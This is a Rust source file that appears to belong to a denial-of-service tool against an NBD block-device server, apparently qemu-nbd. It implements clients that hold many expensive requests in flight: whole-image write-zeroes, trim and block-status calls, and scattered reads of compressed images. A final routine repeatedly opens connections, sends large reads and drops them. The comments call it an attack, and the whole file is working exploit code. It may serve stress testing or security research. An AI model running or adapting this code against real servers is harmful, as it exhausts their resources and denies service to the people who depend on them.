//! Clients of NBD that send legal, small requests, which cost the server much. Their headers are extended, as these have
//! lengths of 64 bits.

use std::io::{self, Read, Write};
use std::os::unix::net::UnixStream;

use crate::clients::{greeted, option};
use crate::images::{BITMAPS, Costly};
use crate::{GoOn, Target};

const READ: u16 = 0;
const TRIM: u16 = 4;
const WRITE_ZEROES: u16 = 6;
const BLOCK_STATUS: u16 = 7;
const GO: u32 = 7;
const SET_META_CONTEXT: u32 = 10;
const EXTENDED_HEADERS: u32 = 11;
const EXTENDED_REQUEST: u32 = 0x21e4_1c71;
/// Requests in flight, where it is not the attack's own number.
const DEPTH: u64 = 128;

struct Client<'a> {
    stream: UnixStream,
    go_on: &'a GoOn,
}

impl<'a> Client<'a> {
    /// A client of an export, with these metadata contexts.
    fn of(
        target: &Target,
        export: &str,
        contexts: &[String],
        go_on: &'a GoOn,
    ) -> io::Result<Client<'a>> {
        let mut client = Client { stream: greeted(&target.nbd)?, go_on };
        let name = [&(export.len() as u32).to_be_bytes()[..], export.as_bytes()].concat();
        client.stream.write_all(&option(EXTENDED_HEADERS, b""))?;
        client.until_acknowledged()?;
        if !contexts.is_empty() {
            let mut queries = [&name[..], &(contexts.len() as u32).to_be_bytes()].concat();
            for context in contexts {
                queries.extend((context.len() as u32).to_be_bytes());
                queries.extend(context.as_bytes());
            }
            client.stream.write_all(&option(SET_META_CONTEXT, &queries))?;
            client.until_acknowledged()?;
        }
        client.stream.write_all(&option(GO, &[&name[..], &[0, 0]].concat()))?;
        client.until_acknowledged()?;
        Ok(client)
    }

    /// Takes replies of an option until its end.
    fn until_acknowledged(&mut self) -> io::Result<()> {
        loop {
            let mut head = [0; 20];
            self.take(&mut head)?;
            let [.., a, b, c, d, e, f, g, h] = head;
            let (kind, len) = (u32::from_be_bytes([a, b, c, d]), u32::from_be_bytes([e, f, g, h]));
            self.skip(len.into())?;
            match kind {
                1 => return Ok(()),
                2.. if kind >> 31 == 1 => return Err(io::ErrorKind::Unsupported.into()),
                _ => (),
            }
        }
    }

    /// Reads all of that. A slow server gets its time, for as long as the attack is wanted.
    fn take(&mut self, mut buffer: &mut [u8]) -> io::Result<()> {
        while !buffer.is_empty() {
            match self.stream.read(buffer) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(count) => buffer = &mut buffer[count..],
                Err(error)
                    if error.kind() == io::ErrorKind::WouldBlock && self.go_on.is_wanted() => {}
                Err(error) => return Err(error),
            }
        }
        Ok(())
    }

    fn skip(&mut self, mut bytes: u64) -> io::Result<()> {
        let mut buffer = vec![0; bytes.min(1 << 20) as usize];
        while bytes > 0 {
            let part = bytes.min(buffer.len() as u64);
            self.take(&mut buffer[..part as usize])?;
            bytes -= part;
        }
        Ok(())
    }

    fn send(&mut self, request: &Request, cookie: u64) -> io::Result<()> {
        let head = [&EXTENDED_REQUEST.to_be_bytes()[..], &[0, 0], &request.kind.to_be_bytes()];
        let [cookie, at, len] = [cookie, request.at, request.len].map(u64::to_be_bytes);
        self.stream.write_all(&[&head.concat()[..], &cookie, &at, &len].concat())
    }

    /// Takes all chunks of a reply to one of the requests.
    fn reply(&mut self) -> io::Result<()> {
        loop {
            // Magic number, flags, type, cookie, offset, length.
            let mut head = [0; 32];
            self.take(&mut head)?;
            let [.., a, b, c, d, e, f, g, h] = head;
            self.skip(u64::from_be_bytes([a, b, c, d, e, f, g, h]))?;
            // The last chunk has the flag.
            if head[5] & 1 == 1 {
                return Ok(());
            }
        }
    }

    /// Keeps that many requests in flight, which differ in where they begin.
    fn keep(&mut self, depth: u64, request: impl Fn(u64) -> Request) -> io::Result<()> {
        for cookie in 0..depth {
            self.send(&request(cookie), cookie)?;
        }
        for cookie in depth.. {
            self.reply()?;
            if !self.go_on.blow() {
                break;
            }
            self.send(&request(cookie), cookie)?;
        }
        Ok(())
    }
}

struct Request {
    kind: u16,
    at: u64,
    len: u64,
}

/// Requests for all of an image.
fn whole(image: Costly, kind: u16) -> impl Fn(u64) -> Request {
    move |_| Request { kind, at: 0, len: image.size() }
}

pub(crate) fn zeroes(target: &Target, go_on: &GoOn) -> io::Result<()> {
    Client::of(target, Costly::Sparse.name(), &[], go_on)?
        .keep(DEPTH, whole(Costly::Sparse, WRITE_ZEROES))
}

pub(crate) fn trims(target: &Target, go_on: &GoOn) -> io::Result<()> {
    Client::of(target, Costly::Sparse.name(), &[], go_on)?.keep(DEPTH, whole(Costly::Sparse, TRIM))
}

pub(crate) fn status(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let contexts = ["base:allocation".to_owned()];
    Client::of(target, Costly::Sparse.name(), &contexts, go_on)?
        .keep(DEPTH, whole(Costly::Sparse, BLOCK_STATUS))
}

pub(crate) fn bitmaps(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let contexts: Vec<_> = (0..BITMAPS).map(|i| format!("qemu:dirty-bitmap:b{i}")).collect();
    let mut client = Client::of(target, Costly::Bitmaps.name(), &contexts, go_on)?;
    client.keep(DEPTH, whole(Costly::Bitmaps, BLOCK_STATUS))
}

/// Reads of a sector, each in another cluster than the one before.
fn sectors(image: Costly, cluster: u64) -> impl Fn(u64) -> Request {
    let places = image.size() / cluster;
    move |cookie| Request { kind: READ, at: cookie % places * cluster, len: 512 }
}

/// In flight, so that each server's request buffers take them.
const READS: u64 = 42;

pub(crate) fn deflate(target: &Target, go_on: &GoOn) -> io::Result<()> {
    Client::of(target, Costly::Deflate.name(), &[], go_on)?
        .keep(READS, sectors(Costly::Deflate, 64 << 10))
}

pub(crate) fn zstd(target: &Target, go_on: &GoOn) -> io::Result<()> {
    Client::of(target, Costly::Zstd.name(), &[], go_on)?.keep(READS, sectors(Costly::Zstd, 2 << 20))
}

pub(crate) fn read_and_leave(target: &Target, go_on: &GoOn) -> io::Result<()> {
    loop {
        let mut client = Client::of(target, "hostile", &[], go_on)?;
        for cookie in 0..20 {
            client.send(&Request { kind: READ, at: cookie << 20, len: 1 << 20 }, cookie)?;
        }
        if !go_on.blow() {
            return Ok(());
        }
    }
}
